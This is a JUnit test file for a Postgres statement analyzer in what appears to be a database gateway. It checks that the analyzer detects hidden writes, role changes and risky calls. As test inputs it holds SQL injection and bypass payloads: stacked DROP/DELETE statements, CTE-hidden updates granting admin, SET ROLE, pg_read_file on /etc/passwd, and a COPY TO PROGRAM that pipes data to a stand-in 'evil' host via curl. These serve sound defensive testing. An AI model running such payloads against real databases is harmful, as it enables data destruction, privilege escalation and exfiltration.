package dev.portcullis.gateway.protocol.postgres.sql;

import static dev.portcullis.gateway.protocol.postgres.sql.Sql.analyze;
import static dev.portcullis.gateway.protocol.postgres.sql.Sql.commands;
import static dev.portcullis.gateway.protocol.postgres.sql.Sql.only;
import static dev.portcullis.gateway.protocol.postgres.sql.Sql.read;
import static dev.portcullis.gateway.protocol.postgres.sql.Sql.write;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.api.Test;

/** Ways a client might hide what a statement does; each must still show the write, the call or the setting. */
class BypassTest {

    @Test
    void mixedCaseDeleteIsADeleteOnUsers() {
        StatementInfo s = only("DeLeTe FrOm Users");
        assertEquals("DELETE", s.command());
        assertEquals(List.of(write("users")), s.tables());
        assertEquals("DELETE FROM users", s.normalized());
    }

    @Test
    void commentsAroundAndInsideADeleteChangeNothing() {
        StatementInfo s = only("/* x */ DELETE -- y\n FROM/**/users");
        assertEquals("DELETE", s.command());
        assertEquals(List.of(write("users")), s.tables());
        assertEquals("DELETE FROM users", s.normalized());
    }

    @Test
    void deleteHiddenInACteUnderASelectIsAWrite() {
        StatementInfo s = only("WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x");
        assertEquals(List.of(write("users")), s.tables());
    }

    @Test
    void updateHiddenInANestedCteIsAWrite() {
        StatementInfo s = only("SELECT * FROM (WITH u AS (UPDATE users SET admin = true RETURNING id) SELECT * FROM u) z");
        assertEquals(List.of(write("users")), s.tables());
    }

    @Test
    void aSecondStatementAfterASemicolonIsItsOwnStatement() {
        Analysis a = analyze("SELECT 1; DROP TABLE users");
        assertNull(a.parseError());
        assertEquals(List.of("SELECT", "DROP"), commands(a));
        assertEquals(List.of(write("users")), a.statements().get(1).tables());
    }

    @Test
    void preparedDeleteIsShownWhenPreparedAndWhenExecuted() {
        Analysis a = analyze("PREPARE p AS DELETE FROM users; EXECUTE p");
        assertNull(a.parseError());
        assertEquals(List.of("PREPARE", "DELETE", "EXECUTE", "DELETE"), commands(a));
        assertEquals("prepare", a.statements().get(1).via());
        assertEquals("execute", a.statements().get(3).via());
        assertEquals(List.of(write("users")), a.statements().get(3).tables());
    }

    @Test
    void explainAnalyzeDeleteShowsTheDelete() {
        Analysis a = analyze("EXPLAIN ANALYZE DELETE FROM users");
        assertEquals(List.of("EXPLAIN", "DELETE"), commands(a));
        assertEquals(List.of(write("users")), a.statements().get(1).tables());
    }

    @Test
    void copyToProgramIsFlagged() {
        StatementInfo s = only("COPY users TO PROGRAM 'curl -T - https://evil'");
        assertEquals(new CopyInfo("to", true), s.copy());
        assertEquals(List.of(read("users")), s.tables());
    }

    @Test
    void semicolonsInsideStringsDollarQuotesIdentifiersAndCommentsDoNotSplit() {
        assertEquals(1, analyze("SELECT '; DROP TABLE users; '").statements().size());
        assertEquals(1, analyze("SELECT E'\\'; DROP TABLE users; --'").statements().size());
        assertEquals(1, analyze("SELECT $$; DROP TABLE users; $$").statements().size());
        assertEquals(1, analyze("SELECT $q$ $$; DROP TABLE users; $$ $q$").statements().size());
        assertEquals(1, analyze("SELECT 1 AS \"; DROP TABLE users; \"").statements().size());
        assertEquals(1, analyze("SELECT 1 /* ; DROP TABLE users; /* nested */ ; */").statements().size());
        assertEquals(1, analyze("SELECT 1 -- ; DROP TABLE users").statements().size());
    }

    @Test
    void aStringThatLooksClosedToANaiveSplitterStillHidesNothing() {
        Analysis a = analyze("SELECT 'it''s'; DELETE FROM users");
        assertEquals(List.of("SELECT", "DELETE"), commands(a));
    }

    @Test
    void aStringWhoseEndDependsOnStandardConformingStringsIsReported() {
        // standard_conforming_strings = off: the server reads 'a\', ' as one string, then runs the DELETE
        Analysis a = analyze("SELECT 'a\\', '; DELETE FROM users; --'");
        assertTrue(a.parseError().contains("standard_conforming_strings"), a.parseError());
        assertNull(analyze("SELECT 'a\\\\', E'b\\'', 'c\\d'").parseError(), "even runs, E'' strings and mid-string backslashes are fine");
    }

    @Test
    void setRoleNamesTheRoleParameter() {
        assertEquals("role", only("SET ROLE postgres").setParameter());
        assertEquals("role", only("set local role postgres").setParameter());
        assertEquals("role", only("SET \"role\" = 'postgres'").setParameter());
        assertEquals("session_authorization", only("SET SESSION AUTHORIZATION postgres").setParameter());
    }

    @Test
    void setConfigInsideASelectIsAFunctionCall() {
        assertEquals(List.of("set_config"), only("SELECT set_config('role', 'postgres', false)").functions());
        assertEquals(List.of("set_config"), only("SELECT 1 WHERE (SELECT set_config('role', 'postgres', false)) IS NOT NULL").functions());
    }

    @Test
    void doBlockIsADoWhateverItsBodyContains() {
        StatementInfo s = only("DO $$BEGIN DELETE FROM users; END$$");
        assertEquals("DO", s.command());
        assertEquals("DO ?", s.normalized());
    }

    @Test
    void aSemicolonInsideAFunctionBodyKeepsTheStatementWhole() {
        Analysis a = analyze("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END; DELETE FROM users");
        assertNull(a.parseError());
        assertEquals(List.of("CREATE", "DELETE"), commands(a));
    }

    @Test
    void aParameterNamedBeginDoesNotSwallowTheNextStatement() {
        Analysis a = analyze("CREATE FUNCTION f(begin int) RETURNS int LANGUAGE sql AS 'SELECT 1'; DELETE FROM users");
        assertEquals(List.of("CREATE", "DELETE"), commands(a));
    }

    @Test
    void anUnbalancedParenthesisCannotHideAStatementWithoutAParseError() {
        Analysis a = analyze("SELECT (1; DROP TABLE users");
        assertNotNull(a.parseError());
    }

    @Test
    void aStrayClosingParenthesisDoesNotMergeStatements() {
        Analysis a = analyze("SELECT 1); DELETE FROM users");
        assertEquals(List.of("SELECT", "DELETE"), commands(a));
        assertNotNull(a.parseError());
    }

    @Test
    void unparseableWritesStillShowTheirTargetAndAParseError() {
        Analysis a = analyze("DELETE FROM users WHERE CURRENT OF c");
        assertNotNull(a.parseError());
        assertEquals(List.of("DELETE"), commands(a));
        assertEquals(List.of(write("users")), a.statements().get(0).tables());
        assertEquals(false, a.statements().get(0).hasWhere(), "unknown WHERE counts as none");
    }

    @Test
    void unparseableQueriesStillShowTheirCallsAndAParseError() {
        Analysis a = analyze("SELECT pg_read_file('/etc/passwd') FROM t LIMIT (SELECT 1) FETCH garbage");
        assertNotNull(a.parseError());
        assertTrue(a.statements().get(0).functions().contains("pg_read_file"));
    }

    @Test
    void executeArgumentsAreCalls() {
        Analysis a = analyze("PREPARE q(text) AS SELECT $1; EXECUTE q(pg_read_file('/etc/passwd'))");
        assertEquals(List.of("pg_read_file"), a.statements().get(2).functions());
    }

    @Test
    void explainOfAPreparedDeleteShowsTheDelete() {
        Analysis a = analyze("PREPARE p AS DELETE FROM users; EXPLAIN ANALYZE EXECUTE p");
        assertEquals(List.of("PREPARE", "DELETE", "EXPLAIN", "EXECUTE", "DELETE"), commands(a));
        assertEquals(java.util.Arrays.asList(null, "prepare", null, "explain", "execute"),
                a.statements().stream().map(StatementInfo::via).toList());
    }
}
